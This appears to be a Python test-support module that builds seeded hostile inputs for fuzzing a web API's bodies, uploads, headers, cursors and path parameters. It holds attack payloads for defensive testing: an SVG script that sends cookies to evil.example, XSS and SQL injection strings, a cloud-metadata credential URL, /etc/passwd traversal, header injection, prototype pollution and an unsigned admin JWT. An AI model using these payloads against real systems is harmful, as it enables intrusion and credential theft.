"""Hostile values, built from a seeded ``random.Random``: bodies, query cursors, headers, path parameters and
images that no client of ours sends. Each builder returns what goes on the wire (bytes or str)."""

from __future__ import annotations

import base64
import json
import random
import string
from typing import Any

from tests.fakes.gemini import png
from tests.integration.generations.support import data_uri, picture
from tests.support.images import jpeg_header, png_header

# A key of the right shape for a Google API key (not a real one): "AIzaSy" and 33 more characters.
KEY_ALPHABET = string.ascii_letters + string.digits + "_-"


def api_key(rng: random.Random) -> str:
    return "AIzaSy" + "".join(rng.choice(KEY_ALPHABET) for _ in range(33))


def noise(rng: random.Random, size: int) -> bytes:
    return rng.randbytes(size)


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script><rect width='64' height='64'/></svg>"
)

# -- images ---------------------------------------------------------------------------------------------


def hostile_image(rng: random.Random) -> str:
    """A value for a field that takes an image (a data URI, an upload reference or a URL) that is not one."""
    choices: list[Any] = [
        lambda: data_uri(noise(rng, rng.choice((0, 1, 16, 4096))), "image/png"),
        lambda: data_uri(SVG, "image/svg+xml"),
        lambda: data_uri(SVG, "image/png"),
        lambda: data_uri(png_header(50_000, 50_000), "image/png"),
        lambda: data_uri(jpeg_header(65_000, 65_000), "image/jpeg"),
        lambda: data_uri(png_header(0, 0), "image/png"),
        lambda: data_uri(png()[: rng.randrange(8, 80)], "image/png"),
        lambda: data_uri(picture(fmt="GIF"), "image/gif"),
        lambda: data_uri(picture(fmt="BMP"), "image/webp"),
        lambda: data_uri(png() + b"<script>alert(1)</script>", "image/png"),
        lambda: data_uri(b"RIFF\xff\xff\xff\xffWEBPVP8 " + noise(rng, 64), "image/webp"),
        lambda: "data:image/png;base64," + "!" * rng.randrange(1, 64),
        lambda: "data:image/png;base64,",
        lambda: "data:image/png," + "%89PNG",
        lambda: "data:;base64," + base64.b64encode(png()).decode(),
        lambda: "data:image/png;base64," + base64.b64encode(png()).decode() + "\x00",
        lambda: "data:image/png;charset=utf-8;base64," + base64.b64encode(png()).decode(),
        lambda: "data:IMAGE/PNG;BASE64," + base64.b64encode(png()).decode(),
        lambda: "javascript:alert(1)",
        lambda: "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        lambda: "file:///etc/passwd",
        lambda: "upload:../../../etc/passwd",
        lambda: "upload:uploads/00000000-0000-0000-0000-000000000000/user_photo/x",
        lambda: "upload:",
        lambda: "https://example.com/" + "a" * rng.randrange(1, 10_000),
    ]
    value: str = rng.choice(choices)()
    return value


def big_image_uri(rng: random.Random) -> str:
    """A data URI past the 5 MB a photo may be, decoded (rarely drawn: it is slow to send)."""
    return data_uri(b"\x89PNG\r\n\x1a\n" + noise(rng, 5 * 1024 * 1024 + 1), "image/png")


IMAGE_FIELDS = ("imageBase64", "coverImageBase64", "userPhotoUrl", "itemPhotoUrl", "image")

# Valid bodies of the operations that take an image, but for the image: the hostile image reaches the
# code that reads it, not only the body's validation.
IMAGE_BODIES: dict[str, Any] = {
    "POST /generations": lambda image: {"mode": "photo_text", "prompt": "add a hat", "userPhotoUrl": image},
    "POST /advisor": lambda image: {"message": "what suits me?", "userPhotoUrl": image},
    "POST /wardrobe/items": lambda image: {"imageBase64": image, "title": "a coat"},
    "POST /wardrobe/collections": lambda image: {"name": "coats", "coverImageBase64": image},
    "PATCH /wardrobe/collections/{collection_id}": lambda image: {"coverImageBase64": image},
    "PATCH /me": lambda image: {"image": image},
}
# Files uploaded (through POST /uploads and the presigned POST, as a browser does) as image/png that are
# not PNGs, for the operations that take an upload reference.
HOSTILE_UPLOADS = {
    "svg": SVG,
    "bomb": png_header(50_000, 50_000),
    "truncated": png()[:60],
    "html": b"<html><script>alert(1)</script></html>",
}


def upload_body(rng: random.Random) -> dict[str, Any]:
    """A POST /uploads body asking for a file of a type or size it should not accept."""
    return {
        "purpose": rng.choice(("user_photo", "item_photo", "avatar", "")),
        "contentType": rng.choice(
            (
                "image/svg+xml",
                "text/html",
                "image/png; charset=utf-8",
                "image/png\r\nx-amz-acl: public-read",
                "image/*",
                "application/octet-stream",
                "IMAGE/PNG",
                "image/gif",
                "",
            )
        ),
        "contentLength": rng.choice((0, -1, 1, 5 * 1024 * 1024 + 1, 2**63, 10**30)),
    }


# -- JSON values and bodies -----------------------------------------------------------------------------


def deep(rng: random.Random) -> bytes:
    depth = rng.choice((100, 1_000, 10_000, 100_000))
    if rng.random() < 0.5:
        return b"[" * depth + b"]" * depth
    return b'{"a":' * depth + b"1" + b"}" * depth


def wrong_value(rng: random.Random) -> bytes:
    """One JSON value (as raw text, so that NaN, huge numbers and lone surrogates get through)."""
    size = rng.choice((1_000, 100_000, 1_000_000))
    choices: list[Any] = [
        lambda: b"NaN",
        lambda: b"Infinity",
        lambda: b"-Infinity",
        lambda: b"1e999",
        lambda: b"-0",
        lambda: b"1" + b"0" * rng.choice((19, 40, 5_000, 50_000)),
        lambda: str(2**63).encode(),
        lambda: str(-(2**63) - 1).encode(),
        lambda: b"0.000000000000000000000000000001",
        lambda: b"true",
        lambda: b"null",
        lambda: b"[]",
        lambda: b"{}",
        lambda: b'[null, {"": []}]',
        lambda: json.dumps("x" * size).encode(),
        lambda: json.dumps("\u0000" * rng.randrange(1, 8) + "abc").encode(),
        lambda: b'"\\ud800"',
        lambda: b'"a\\udfffb"',
        lambda: b'"\\ud83d\\ude00\\ud83d"',
        lambda: json.dumps("\u202eevil\u200b\ufeff").encode(),
        lambda: json.dumps("' OR 1=1 --; DROP TABLE users; --").encode(),
        lambda: json.dumps("{{7*7}}${7*7}<script>alert(1)</script>").encode(),
        lambda: json.dumps(hostile_image(rng)).encode(),
        lambda: deep(rng),
    ]
    value: bytes = rng.choice(choices)()
    return value


def with_field(body: Any, name: str, raw: bytes) -> bytes:
    """``body`` as JSON with ``name`` set to the raw JSON text ``raw`` (a placeholder swapped after dumping)."""
    fields = dict(body) if isinstance(body, dict) else {}
    marker = "__hostile_value__"
    fields[name] = marker
    return (
        json.dumps(fields)
        .replace(json.dumps(marker), raw.decode("utf-8", "surrogatepass"), 1)
        .encode("utf-8", "surrogatepass")
    )


def hostile_body(rng: random.Random, body: Any, properties: list[str]) -> bytes:
    """A body for an operation whose schema names ``properties``, built from a valid ``body``."""
    fields = [*properties, *(body if isinstance(body, dict) else {})] or ["x"]
    kind = rng.randrange(10)
    if kind <= 3:
        return with_field(body, rng.choice(fields), wrong_value(rng))
    if kind == 4:
        return deep(rng)
    if kind == 5:  # every field wrong at once
        raw = json.dumps({name: f"__hostile_{i}__" for i, name in enumerate(fields)})
        for i in range(len(fields)):
            raw = raw.replace(f'"__hostile_{i}__"', wrong_value(rng).decode("utf-8", "surrogatepass"))
        return raw.encode("utf-8", "surrogatepass")
    if kind == 6:  # not an object at all
        return rng.choice((b"[]", b'"body"', b"1", b"null", b"true", b"[" + json.dumps(body).encode() + b"]"))
    if kind == 7:  # not JSON, or JSON in another encoding
        valid = json.dumps(body).encode()
        return rng.choice(
            (
                noise(rng, rng.choice((1, 64, 4096))),
                valid[: max(1, len(valid) // 2)],
                b"\xef\xbb\xbf" + valid,
                json.dumps(body).encode("utf-16"),
                b"\x00" * 16,
                b"<?xml version='1.0'?><a>1</a>",
                b"email=a%40b.c&password=x",
                b"",
            )
        )
    if kind == 8:  # the same key twice, unknown keys, keys that are not names
        members = json.dumps(body)[1:-1] if isinstance(body, dict) and body else ""
        name = rng.choice(fields)
        return rng.choice(
            (
                ("{" + members + (", " if members else "") + f'"{name}": 1, "{name}": "x"' + "}").encode(),
                json.dumps({**(body if isinstance(body, dict) else {}), "__proto__": {"admin": True}}).encode(),
                json.dumps({**(body if isinstance(body, dict) else {}), "role": "admin", "tokens": 10**9}).encode(),
                json.dumps({"\u0000": 1, "": 2, "a" * 10_000: 3}).encode(),
            )
        )
    # kind 9: every image field a hostile image
    out = dict(body) if isinstance(body, dict) else {}
    for name in IMAGE_FIELDS:
        if name in properties:
            out[name] = big_image_uri(rng) if rng.random() < 0.02 else hostile_image(rng)
    return json.dumps(out).encode()


# -- query, headers, path -------------------------------------------------------------------------------


def _b64(raw: bytes, rng: random.Random) -> str:
    encoded = base64.urlsafe_b64encode(raw).decode()
    return encoded.rstrip("=") if rng.random() < 0.7 else encoded


def cursor(rng: random.Random) -> str:
    """An opaque cursor of the API's kind (base64 of JSON) that it never issued, or not even that."""
    shapes: list[Any] = [
        [],
        [1],
        ["2025-01-01T00:00:00Z"],
        ["2025-01-01T00:00:00Z", "not-a-uuid"],
        ["2025-01-01T00:00:00Z", "00000000-0000-0000-0000-000000000000", "extra"],
        [None, None],
        [1e308, -1],
        ["9999-12-31T23:59:59.999999+14:00", "00000000-0000-0000-0000-000000000000"],
        ["0001-01-01T00:00:00", "ffffffff-ffff-ffff-ffff-ffffffffffff"],
        ["\u0000", "\ud800"],
        {"createdAt": "2025-01-01", "id": 1},
        {"a": {"b": {"c": []}}},
        "string",
        True,
        10**30,
        [[[[[]]]]],
    ]
    choice = rng.randrange(4)
    if choice == 0:
        return _b64(json.dumps(rng.choice(shapes)).encode("utf-8", "surrogatepass"), rng)
    if choice == 1:
        return _b64(noise(rng, rng.choice((1, 16, 300))), rng)
    if choice == 2:
        return _b64(deep(rng)[:20_000], rng)
    return rng.choice(("", "=", "====", "!!!", "%00", "a" * 10_000, "eyJ", "W10=\x00", "..%2f..%2f", "null"))


def query_value(rng: random.Random) -> str:
    return rng.choice(
        (
            "",
            "0",
            "-1",
            "101",
            "1" + "0" * 40,
            "1.5",
            "NaN",
            "true",
            "null",
            "\x00",
            "\ud800",
            "a" * 10_000,
            "' OR 1=1 --",
            "%",
            "[]",
            "completed,failed",
        )
    )


def authorization(rng: random.Random, valid: str) -> str:
    """An Authorization header that is not a valid token (or is one, dressed oddly)."""
    header = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').decode().rstrip("=")
    claims = base64.urlsafe_b64encode(b'{"sub":"00000000-0000-0000-0000-000000000000","role":"admin"}').decode()
    return rng.choice(
        (
            "",
            "Bearer",
            "Bearer ",
            "bearer " + valid,
            "Bearer  " + valid,
            "Bearer " + valid + " " + valid,
            "Basic " + base64.b64encode(b"admin:admin").decode(),
            "Bearer " + header + "." + claims.rstrip("=") + ".",
            "Bearer " + valid[:-4] + "AAAA",
            "Bearer " + valid + "x" * rng.choice((1, 10_000)),
            "Bearer imagify_s_" + "x" * 43,
            "Bearer " + "\xff\xfe" + valid,
            "Bearer " + "a." * 5_000,
            "Bearer " + noise(rng, 64).hex(),
            "Bearer \t" + valid,
        )
    )


CONTENT_TYPES = (
    "text/plain",
    "application/json; charset=utf-16",
    "application/json; charset=latin-1",
    "application/json;;;",
    "APPLICATION/JSON",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/xml",
    "image/png",
    "*/*",
    "",
    "application/" + "x" * 5_000,
)


def idempotency_key(rng: random.Random) -> str:
    return rng.choice(
        (
            "",
            " ",
            "a" * 255,
            "a" * 256,
            "k" * rng.choice((1_000, 100_000)),
            "ÐºÐ»ÑÑ",  # UTF-8 bytes as a server reads them: latin-1
            "key\twith\ttabs",
            "same-key",
            "../../etc/passwd",
            "' OR 1=1 --",
        )
    )


def path_value(rng: random.Random) -> str:
    return rng.choice(
        (
            "00000000-0000-0000-0000-000000000000",
            "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
            "{00000000-0000-0000-0000-000000000000}",
            "..",
            "%2e%2e",
            "-1",
            "1e309",
            "null",
            "a" * 5_000,
            "\x00",
            "' OR 1=1 --",
            "🙂",
        )
    )
